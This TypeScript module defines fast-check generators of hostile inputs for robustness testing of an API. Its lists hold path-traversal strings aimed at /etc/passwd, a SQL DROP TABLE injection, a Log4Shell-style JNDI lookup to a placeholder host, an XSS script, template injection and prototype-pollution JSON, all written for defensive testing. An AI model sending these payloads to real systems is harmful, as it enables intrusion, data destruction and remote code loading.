import fc from 'fast-check';

const KB = 1024;

/** Built once: shrinking and logging pass references, never copies. */
export const HUGE_STRINGS = {
  '100 KB': 'x'.repeat(100 * KB),
  '2 MB': 'é'.repeat(KB * KB),
};

/** Text that breaks naive encoders, databases (NUL on PostgreSQL) and renderers. */
export const UNICODE_TRICKS = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\u202Eevil\u202C.txt',
  'مرحبا بالعالم',
  'שלום עולם',
  '😀👩‍👩‍👧‍👦🏳️‍🌈',
  '\ud800',
  'x\udc00y',
  '\ufeffbom',
  '\u200b',
  'e\u0301',
  '\r\n',
  '\t\u000b\u000c',
  '\u2028\u2029',
  '\uffff',
];

/** Ids and path segments that try to climb out of or confuse the route they are in. */
export const PATH_TRICKS = [
  '../',
  '..',
  '.',
  '%2e%2e%2f',
  '..%2F',
  '%2e%2e/%2e%2e/etc/passwd',
  '..\\..\\windows',
  '%252e%252e%252f',
  '//',
  '/',
  ';',
  'a;b=c',
  '%00',
  '%',
  '%zz',
  '?x=1',
  '#frag',
  '00000000-0000-0000-0000-000000000000/../sessions',
  '00000000-0000-4000-8000-00000000000G',
  '00000000-0000-4000-8000-0000000000000',
  ' 00000000-0000-4000-8000-000000000000',
  'a'.repeat(300),
  'a'.repeat(10_000),
];

/** Git refuses these as branch names (git check-ref-format), or they point somewhere else. */
export const BRANCH_TRICKS = [
  'refs/heads/..',
  'refs/heads/main',
  'feature branch',
  'a~b',
  'a^b',
  'a:b',
  'a?b',
  'a*b',
  'a[b',
  'a\\b',
  'HEAD',
  '@',
  'a@{1}',
  'x.lock',
  '-leading',
  '.hidden',
  'trailing/',
  'trailing.',
  'a//b',
  'a..b',
  '/leading',
  'main',
  'develop',
];

export const INJECTIONS = [
  "'; DROP TABLE agents_sessions; --",
  '" OR 1=1 --',
  '__proto__',
  'constructor',
  'toString',
  '${jndi:ldap://example.invalid/a}',
  '<script>alert(1)</script>',
  '{{7*7}}',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
];

const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map(code => String.fromCharCode(code));

/** Any of the above, random code points (lone surrogates included), or a huge string now and then. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 8, arbitrary: fc.constantFrom(...UNICODE_TRICKS, ...PATH_TRICKS, ...BRANCH_TRICKS, ...INJECTIONS) },
  { weight: 4, arbitrary: fc.string({ unit: fc.oneof(fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }), loneSurrogate), maxLength: 30 }) },
  { weight: 1, arbitrary: fc.constantFrom(HUGE_STRINGS['100 KB']) },
  { weight: 1, arbitrary: fc.constantFrom(HUGE_STRINGS['2 MB']) },
);

/** Values of every JSON type, for fields that expect another one. */
export const wrongTypedValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(null, true, false, 0, -1, 1.5, 1e308, -0, '', '0', 'true', [], {}, [null], { '': '' }),
  fc.string({ maxLength: 10 }),
  fc.integer(),
  fc.array(fc.string({ maxLength: 5 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }), { maxKeys: 3 }),
);

/** Bodies no JSON parser should accept, or that are JSON but no object. */
export const malformedJson: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '',
    '{',
    '}',
    '{"prompt":',
    '{"entityRef":"component:default/payments","prompt":"x",}',
    "{'entityRef':'payments'}",
    'NaN',
    'undefined',
    '\u0000',
    '\ufeff{}',
    '{"prompt":"\\ud800"}',
    '{"prompt":"\\u0000"}',
    '{"a":1}{"b":2}',
    'null',
    '[]',
    '""',
    '0',
    'true',
    '{"__proto__":{"isAdmin":true},"entityRef":"payments","prompt":"x"}',
    '{"constructor":{"prototype":{"polluted":1}}}',
    '['.repeat(5_000) + ']'.repeat(5_000),
    `${'{"a":'.repeat(3_000)}1${'}'.repeat(3_000)}`,
  ),
  fc.string({ unit: 'binary-ascii', maxLength: 50 }),
);
